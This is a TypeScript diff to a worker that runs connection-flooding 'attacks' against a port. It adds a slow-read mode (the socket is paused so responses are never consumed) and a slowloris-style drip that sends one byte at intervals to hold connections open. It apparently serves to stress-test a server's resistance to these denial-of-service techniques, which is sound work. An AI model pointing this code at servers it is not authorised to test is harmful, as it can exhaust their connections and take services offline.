@@ -15,6 +15,10 @@ export interface Attack {
   readonly times: number;
   /** When the connections hang up. */
   readonly holdMs: number;
+  /** False: nothing of the answers is taken. */
+  readonly reads?: boolean;
+  /** Then each connection sends one byte more, again and again. */
+  readonly dripMs?: number;
 }
 
 export interface AttackResult {
@@ -26,7 +30,8 @@ process.on("message", async (attack: Attack) => {
   process.send?.(await run(attack));
 });
 
-async function run({ port, connections, addresses, request, times, holdMs }: Attack): Promise<AttackResult> {
+async function run(attack: Attack): Promise<AttackResult> {
+  const { port, connections, addresses, request, times, holdMs, reads = true, dripMs } = attack;
   const statuses: Record<string, number> = {};
   const bytes = Buffer.alloc(request.length * times, request, "latin1");
   await Promise.all(
@@ -40,7 +45,12 @@ async function run({ port, connections, addresses, request, times, holdMs }: Att
         });
         // It may be refused: that is the other's right.
         socket.on("error", () => {});
-        socket.on("close", () => resolve());
+        const drip = dripMs === undefined ? undefined : setInterval(() => socket.write(" "), dripMs);
+        socket.on("close", () => {
+          clearInterval(drip);
+          resolve();
+        });
+        if (!reads) socket.pause();
         socket.write(bytes);
         setTimeout(() => socket.destroy(), holdMs);
       });
